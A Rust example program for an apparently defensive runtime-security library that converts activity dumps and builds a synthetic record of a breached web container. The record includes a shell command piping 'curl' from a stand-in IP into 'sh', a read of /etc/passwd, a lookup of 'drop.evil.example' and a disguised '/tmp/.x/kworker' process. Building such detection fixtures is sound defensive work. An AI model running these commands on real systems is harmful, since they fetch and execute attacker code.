//! Converts a dump: `show IN.{protobuf,json} OUT.{protobuf,json,dot,html}`; without arguments makes one to look at.

use std::error::Error;

use activity_tree::{
    Activity, Bind, Dump, FileInfo, Generation, MatchedRule, Open, Options, Process, Question, What,
};

fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let (dump, out) = match arguments.as_slice() {
        [from, to] => {
            let bytes = std::fs::read(from)?;
            let read = if from.ends_with(".json") { Dump::from_json } else { Dump::from_protobuf };
            (read(&bytes, Options::default())?, to)
        }
        [to] => (example(), to),
        _ => return Err("usage: show [IN.protobuf|IN.json] OUT.protobuf|OUT.json|OUT.dot|OUT.html".into()),
    };
    let name = |number: u32| {
        [(0, "read"), (41, "socket"), (49, "bind"), (59, "execve"), (257, "openat"), (288, "accept4")]
            .into_iter()
            .find(|(other, _)| *other == number)
            .map(|(_, name)| name)
    };
    let text = match out.rsplit('.').next() {
        Some("json") => dump.to_json().into_bytes(),
        Some("dot") => dump.to_dot(&name).into_bytes(),
        Some("html") => dump.to_html(&name).into_bytes(),
        _ => dump.to_protobuf(),
    };
    Ok(std::fs::write(out, text)?)
}

/// A web server in a container, and somebody who got in.
fn example() -> Dump {
    let mut dump = Dump::new(Options::default());
    dump.host = "node-7".to_owned();
    dump.metadata.name = "activity-dump-8Kx2mQv0aZ".to_owned();
    dump.metadata.start = 1_790_000_000_000_000_000;
    dump.metadata.end = dump.metadata.start + 900_000_000_000;
    dump.metadata.container_id = "3f1c9a77".repeat(8);
    dump.tags = ["image_name:shop/web", "image_tag:2.4.1", "service:web"].map(str::to_owned).to_vec();
    let entry = process("/docker-entrypoint.sh", &["nginx", "-g", "daemon off;"], false);
    let nginx = process("/usr/sbin/nginx", &["-g", "daemon off;"], true);
    let fpm = process("/usr/sbin/php-fpm8.2", &["--nodaemonize"], false);
    let sh = process("/bin/dash", &["-c", "id; curl -s http://203.0.113.9/<x>&\"y\" | sh"], false);
    let curl = process("/usr/bin/curl", &["-s", "http://203.0.113.9/<x>&\"y\""], false);
    let id = process("/usr/bin/id", &[], false);
    let mut at_ns = dump.metadata.start;
    let mut put = |lineage: &[&Process], what: What<'_>, rule: Option<&str>| {
        at_ns += 700_000_000;
        let rules: Vec<MatchedRule> = rule
            .map(|id| MatchedRule { rule_id: id.to_owned(), ..MatchedRule::default() })
            .into_iter()
            .collect();
        let activity = Activity {
            lineage,
            what,
            image_tag: "2.4.1",
            at_ns,
            generation: Generation::Runtime,
            rules: &rules,
            adds_processes: true,
        };
        // An example that is refused would show less.
        dump.tree.insert(&activity).map(|_| ()).unwrap_or_default();
    };
    let open = |path: &'static str| What::Open {
        path,
        file: None,
        open: Open { retval: 3, flags: 0o100_000, mode: 0 },
    };
    let libraries = [
        "/etc/ld.so.cache",
        "/lib/x86_64-linux-gnu/libc.so.6",
        "/lib/x86_64-linux-gnu/libcrypt.so.1",
        "/lib/x86_64-linux-gnu/libpcre2-8.so.0.11.2",
    ];
    for path in libraries.into_iter().chain([
        "/etc/nginx/nginx.conf",
        "/etc/nginx/conf.d/default.conf",
        "/etc/nginx/mime.types",
        "/var/log/nginx/access.log",
        "/var/log/nginx/error.log",
        "/srv/www/index.html",
        "/srv/www/shop/cart.html",
        "/srv/www/shop/style.css",
        "/run/nginx.pid",
    ]) {
        put(&[&entry, &nginx], open(path), None);
    }
    let bind =
        |port| What::Bind(Bind { family: "AF_INET".into(), ip: "0.0.0.0".into(), port, protocol: 6 }, 0);
    put(&[&entry, &nginx], bind(80), None);
    put(&[&entry, &nginx], bind(443), None);
    put(&[&entry, &nginx], What::Syscalls(&[0, 41, 49, 257, 288]), None);
    put(&[&entry, &nginx], What::Capability(10, true), None);
    for path in libraries.into_iter().chain([
        "/etc/php/8.2/fpm/php-fpm.conf",
        "/srv/www/shop/index.php",
        "/tmp/sess_4f2a",
    ]) {
        put(&[&entry, &fpm], open(path), None);
    }
    let dns = |name: &'static str, qtype| {
        What::Dns(Question { name: name.into(), qtype, class: 1, size: 40, count: 1 })
    };
    put(&[&entry, &fpm], dns("db.internal.example", 1), None);
    put(&[&entry, &fpm], dns("db.internal.example", 28), None);
    put(&[&entry, &fpm, &sh], open("/etc/passwd"), Some("suspicious_shell"));
    put(&[&entry, &fpm, &sh, &id], open("/etc/group"), None);
    put(&[&entry, &fpm, &sh, &curl], dns("drop.evil.example", 1), Some("unusual_domain"));
    put(&[&entry, &fpm, &sh, &curl], What::Capability(21, false), None);
    put(&[&entry, &fpm, &sh, &process("/tmp/.x/kworker", &[], false)], What::Syscalls(&[41, 59]), None);
    dump
}

fn process(path: &str, args: &[&str], is_exec: bool) -> Process {
    let basename = path.rsplit('/').next().unwrap_or_default().to_owned();
    let file =
        FileInfo { path: path.to_owned().into(), basename: basename.clone().into(), ..FileInfo::default() };
    let mut process =
        Process { file, argv0: basename.clone(), comm: basename, is_exec, pid: 77, ..Process::default() };
    process.args = args.iter().map(ToString::to_string).collect();
    process.credentials.user = "www-data".to_owned();
    process
}
